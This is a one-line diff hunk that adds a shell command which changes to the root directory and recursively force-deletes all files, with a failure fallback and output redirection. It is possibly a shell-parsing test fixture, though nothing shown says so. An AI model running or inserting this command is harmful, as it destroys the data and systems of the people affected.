@@ -1,0 +1,1 @@
+(cd / && rm -rf *) || { echo fail; exit 1; } > log
